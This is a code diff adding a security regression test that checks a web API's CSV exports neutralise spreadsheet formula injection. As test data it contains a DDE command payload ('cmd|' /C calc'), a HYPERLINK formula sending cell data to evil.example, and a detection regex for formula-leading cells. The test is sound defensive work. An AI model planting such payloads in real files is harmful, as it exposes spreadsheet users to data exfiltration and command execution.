@@ -1,4 +1,5 @@
 import type { FastifyInstance } from "fastify";
+import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { useTestApp } from "../../test/support/app.js";
 import { COOP_FIXTURE as F, loadCooperationFixture } from "../../test/support/cooperation-fixture.js";
@@ -146,5 +147,34 @@ describe.each(DIALECTS)("security regressions on %s", (dialect) => {
     expect(patched.statusCode).toBe(400);
     expect((await app.inject({ method: "GET", url: "/api/v1/pilots/pil-b1" })).body).not.toContain("Riders");
     expect((await post(F.pilot)).statusCode).toBe(201);
+  });
+
+  it("guards every CSV export against formulas, and the guarded export imports back unchanged", async () => {
+    const notes = ["=1+2", "@SUM(1+1)", "+cmd|' /C calc'!A0"];
+    const csv = ["city,indicator,period,value,source,note", ...notes.map((n, i) => `chongqing-cn,air.pm25_annual,${2015 + i},31,geonames,"${n.replace(/"/g, '""')}"`)].join("\n");
+    const imported = await app.inject({ method: "POST", url: "/api/v1/observations/import", headers: { "content-type": "text/csv" }, payload: csv });
+    expect(imported.statusCode, imported.body).toBe(200);
+    const exported = await app.inject({ method: "GET", url: "/api/v1/observations/export?city=chongqing-cn&indicator=air.pm25_annual&format=csv", headers: { authorization: "" } });
+    const cells = parse(exported.body, { columns: true }) as Record<string, string>[];
+    expect(cells.map((r) => r.note)).toEqual(notes.map((n) => `'${n}`));
+    expect(cells.map((r) => r.value)).toEqual(["31", "31", "31"]);
+    // Read back, the notes are the text that was written.
+    const again = await app.inject({ method: "POST", url: "/api/v1/observations/import", headers: { "content-type": "text/csv" }, payload: exported.body.split("\n").map((l) => l.split(",").slice(0, 6).join(",")).join("\n") });
+    expect(again.statusCode, again.body).toBe(200);
+    const json = (await app.inject({ method: "GET", url: "/api/v1/observations/export?city=chongqing-cn&indicator=air.pm25_annual&format=json" })).json() as { note: string }[];
+    expect(json.map((o) => o.note)).toEqual(notes);
+
+    const practice = {
+      id: "formula-practice", title_en: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", city: "Chongqing", country: "CN", themes: ["transport"], summary_en: "@SUM(1+1)",
+      measures: ["=HYPERLINK(\"http://evil.example\")", "bus lanes"],
+      sources: [{ title: "Bus report", url: "https://example.org/bus", publisher: "Example", year: 2021 }],
+    };
+    expect((await app.inject({ method: "POST", url: "/api/v1/practices", payload: practice })).statusCode).toBe(201);
+    const practices = parse((await app.inject({ method: "GET", url: "/api/v1/practices/export?format=csv" })).body, { columns: true }) as Record<string, string>[];
+    const row = practices.find((r) => r.id === "formula-practice")!;
+    expect([row.title_en, row.summary_en, row.measures?.split("\n")[0]]).toEqual([`'${practice.title_en}`, "'@SUM(1+1)", `'${practice.measures[0]}`]);
+
+    const audit = parse((await app.inject({ method: "GET", url: "/api/v1/audit.csv" })).body) as string[][];
+    for (const cell of audit.flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?![\d.])/);
   });
 });
